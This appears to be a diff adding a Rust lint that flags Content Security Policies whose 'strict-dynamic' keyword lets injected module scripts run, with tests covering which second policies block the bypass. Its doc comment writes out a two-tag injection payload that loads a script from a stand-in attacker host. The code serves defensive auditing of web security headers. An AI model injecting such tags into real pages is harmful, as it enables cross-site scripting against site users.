@@ -1,0 +1,234 @@
+use super::csp_bypassable_host::{bypass, evaluates};
+use crate::csp::{Clause, Csp, Directive, Disposition, Keyword, Purpose, SourceExpression};
+use crate::diagnostic::Diagnostic;
+use crate::join::joined;
+use crate::lint::report::{Report, lint};
+use crate::policy::{Form, SecurityPolicy};
+use crate::span::{Span, Spanned};
+
+lint! {
+    /// # What it does
+    ///
+    /// Looks for `strict_dynamic` in the list that decides about script elements, unless another enforced policy stops
+    /// what it lets in.
+    ///
+    /// # Why it matters
+    ///
+    /// An attacker who can inject two tags into a page runs any script, with no nonce and no report:
+    ///
+    /// ```text
+    /// <link rel="modulepreload" href="https://evil.example/a.js">
+    /// <script type="module" src="https://evil.example/a.js"></script>
+    /// ```
+    ///
+    /// The standard has browsers fetch the preload as if a trusted script had asked for it, which `strict_dynamic`
+    /// allows for every URL, `data:` included. The module script then takes what has been fetched, and nothing is
+    /// checked again. Chromium 156 does so. Fallbacks for old browsers, hashes in place of the nonce and Trusted Types
+    /// do not stop it.
+    ///
+    /// Without `strict_dynamic`, the list is compared with the URL. A trusted script that loads others then gives
+    /// them the nonce (`script.nonce = document.currentScript.nonce`), and workers need a `worker_src`, since they fall
+    /// back to the list of scripts. A site that cannot do without `strict_dynamic` sends a second policy beside it,
+    /// which names the hosts of all its scripts. A list for every host, such as `https`, stops nothing, and no list stops
+    /// files on the hosts that it names: a user-uploaded file under `self` still runs.
+    ///
+    /// # Example
+    ///
+    /// ```text
+    /// content_security_policy: { script_src: [nonce, strict_dynamic], base_uri: none },
+    /// ```
+    ///
+    /// # Fine
+    ///
+    /// ```text
+    /// content_security_policy: [
+    ///     { script_src: [nonce, strict_dynamic], base_uri: none },
+    ///     { script_src: [self, nonce, "https://js.example.com"] },
+    /// ],
+    /// ```
+    ///
+    /// # References
+    ///
+    /// - [`'strict-dynamic'` might be bypassed with modulepreload](https://github.com/w3c/webappsec-csp/issues/823)
+    /// - [HTML, modulepreload](https://html.spec.whatwg.org/multipage/links.html#link-type-modulepreload)
+    /// - [CSP3, section 6.7.1.1](https://w3c.github.io/webappsec-csp/#script-pre-request)
+    CSP_STRICT_DYNAMIC "csp_strict_dynamic" Deny "two injected tags run any script", check
+}
+
+fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
+    let enforced = policy.csps_of(Disposition::Enforce);
+    let mut said: Vec<Span> = Vec::new();
+    for csp in policy.csps() {
+        let Some(list) = csp.effective(Directive::ScriptSrcElem) else { continue };
+        let Some(span) = list.keyword(Keyword::StrictDynamic) else { continue };
+        if said.contains(&span) || enforced.iter().any(|other| stops(other, policy.form)) {
+            continue;
+        }
+        said.push(span);
+        report.push(
+            Diagnostic::finding(
+                span,
+                format!("`strict_dynamic` in `{}` lets two injected tags run any script", list.directive.node.key()),
+            )
+            .help(help(list, enforced.iter().find_map(|other| leak(other, policy.form))))
+            .note("an injected `<link rel=modulepreload>` fetches a module from anywhere, and an injected `<script type=module>` runs it; a second policy stops all but files on the hosts that it names, such as uploads"),
+        );
+    }
+}
+
+/// Whether a policy stops a module that was preloaded from a host of the attacker's.
+fn stops(csp: &Csp, form: Form) -> bool {
+    csp.sandboxes("allow_scripts")
+        || csp.effective(Directive::ScriptSrcElem).is_some_and(|list| {
+            let evaluates = evaluates(list);
+            !trusts_loaders(list) && !list.sources().iter().any(|source| lets_in(source, evaluates, form))
+        })
+}
+
+/// The source by which a policy that compares URLs still lets such a module in.
+fn leak(csp: &Csp, form: Form) -> Option<&SourceExpression> {
+    let list = csp.effective(Directive::ScriptSrcElem).filter(|list| !trusts_loaders(list))?;
+    let evaluates = evaluates(list);
+    list.sources().iter().find(|source| lets_in(source, evaluates, form)).map(|source| &source.node)
+}
+
+fn trusts_loaders(list: &Clause) -> bool {
+    [Keyword::StrictDynamic, Keyword::StrictDynamicUrl].into_iter().any(|keyword| list.keyword(keyword).is_some())
+}
+
+/// Whether an attacker can serve a script that this source matches, or knows what it asks for.
+fn lets_in(source: &Spanned<SourceExpression>, evaluates: bool, form: Form) -> bool {
+    match &source.node {
+        SourceExpression::Host(host) => source.node.lets_anyone_in() || bypass(host, evaluates).is_some(),
+        SourceExpression::FixedNonce(_) => form == Form::Declaration,
+        _ => source.node.lets_anyone_in(),
+    }
+}
+
+/// What to write instead: the list without `strict_dynamic`, and without what browsers ignore because of it, which would
+/// take effect again. `leak` is the source by which another policy fails to stop it.
+fn help(list: &Clause, leak: Option<&SourceExpression>) -> String {
+    let key = match list.directive.node {
+        Directive::DefaultSrc => Directive::ScriptSrc.key(),
+        directive => directive.key(),
+    };
+    let is_kept = |source: &&Spanned<SourceExpression>| {
+        // What fills a slot is a host, which is ignored like any other.
+        !matches!(source.node, SourceExpression::Keyword(Keyword::StrictDynamic) | SourceExpression::Slot(_))
+            && list.ignores(&source.node, Purpose::Script).is_none()
+    };
+    let kept: Vec<_> = list.sources().iter().filter(is_kept).collect();
+    let sources = joined(&kept, ", ", &|source| source.node.dsl());
+    let instead = match (list.nonce_or_hash(), kept.as_slice()) {
+        (None, _) => format!("`{key}: nonce`"),
+        (Some(_), [_]) => format!("`{key}: {sources}`"),
+        (Some(_), _) => format!("`{key}: [{sources}]`"),
+    };
+    let (trusted, loaded) = match list.has_nonce() || list.nonce_or_hash().is_none() {
+        true => ("nonce", "have scripts pass the nonce on to those that they load"),
+        false => ("…", "list the hashes of the scripts that they load too"),
+    };
+    let second = match leak {
+        Some(source) => {
+            format!("name the hosts in the other policy, in place of `{}` where attackers find a script", source.dsl())
+        }
+        None => format!("add a second policy that names the hosts: `[{{ … }}, {{ script_src: [self, {trusted}] }}]`"),
+    };
+    format!("write {instead}, and {loaded}; or {second}")
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::response::Response;
+
+    const FIRST: &str = "script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'; base-uri 'none'";
+
+    fn fires(headers: &[(&str, &str)]) -> bool {
+        let response = Response::audit(headers.iter().copied(), None);
+        response.diagnostics.iter().any(|found| found.lint == Some("csp_strict_dynamic"))
+    }
+
+    /// As Chromium 156 runs, or blocks, a module that was preloaded from another host.
+    #[test]
+    fn what_a_second_policy_stops() {
+        for (second, is_open) in [
+            ("script-src 'self' 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", false),
+            ("script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", false),
+            ("script-src 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='", false),
+            ("script-src https://js.example.com *.example.com", false),
+            ("script-src 'unsafe-inline'", false),
+            ("script-src-elem 'self'", false),
+            ("script-src https:; script-src-elem 'self'", false),
+            ("default-src 'self'", false),
+            ("default-src 'none'", false),
+            ("sandbox allow-forms", false),
+            ("script-src blob: 'self'", false),
+            // It asks for what an attacker has.
+            ("script-src https: 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", true),
+            ("script-src http:", true),
+            ("script-src *", true),
+            ("script-src https://*", true),
+            ("script-src *.com", true),
+            ("script-src 'self' data:", true),
+            ("script-src 'self' https://cdn.jsdelivr.net", true),
+            ("script-src 'self' *.github.io", true),
+            ("default-src *", true),
+            // It trusts loaders too, or says nothing of script elements.
+            (FIRST, true),
+            ("script-src 'strict-dynamic' 'self'", true),
+            ("script-src 'self'; script-src-elem 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", true),
+            ("script-src 'self'; script-src-elem *", true),
+            ("script-src-attr 'none'", true),
+            ("worker-src 'self'; style-src 'self'", true),
+            ("sandbox allow-scripts", true),
+            ("require-trusted-types-for 'script'", true),
+        ] {
+            let joined = format!("{FIRST}, {second}");
+            let name = "content-security-policy";
+            assert_eq!(fires(&[(name, FIRST), (name, second)]), is_open, "{second}");
+            assert_eq!(fires(&[(name, &joined)]), is_open, "{joined}");
+            let behind = format!("{second}, {FIRST}");
+            assert_eq!(fires(&[(name, &behind)]), is_open, "{behind}");
+            // A policy that is only reported on stops nothing.
+            assert!(fires(&[(name, FIRST), ("content-security-policy-report-only", second)]), "{second}");
+        }
+    }
+
+    #[test]
+    fn which_list_counts() {
+        for (text, is_open) in [
+            (FIRST, true),
+            ("default-src 'self' 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'STRICT-DYNAMIC'", true),
+            (
+                "script-src 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' 'strict-dynamic' https: 'unsafe-inline'",
+                true,
+            ),
+            ("script-src 'self'; script-src-elem 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", true),
+            ("script-src 'strict-dynamic'", true),
+            ("script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'; script-src-elem 'self'", false),
+            ("script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", false),
+            ("style-src 'strict-dynamic'", false),
+            ("sandbox; script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", false),
+        ] {
+            assert_eq!(fires(&[("content-security-policy", text)]), is_open, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_to_write_instead_lets_in_no_more() {
+        for (list, instead) in [
+            ("'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", "`script_src: \"'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'\"`"),
+            (
+                "'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic' https: 'unsafe-inline' 'self' 'wasm-unsafe-eval'",
+                "`script_src: [\"'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'\", wasm_unsafe_eval]`",
+            ),
+            ("'self' 'strict-dynamic'", "`script_src: nonce`"),
+        ] {
+            let text = format!("script-src {list}");
+            let response = Response::audit_csp(&text);
+            let found = response.diagnostics.iter().find(|found| found.lint == Some("csp_strict_dynamic"));
+            let help = found.and_then(|found| found.help.as_deref()).expect("a finding with help");
+            assert!(help.starts_with(&format!("write {instead}, ")), "{help}");
+        }
+    }
+}
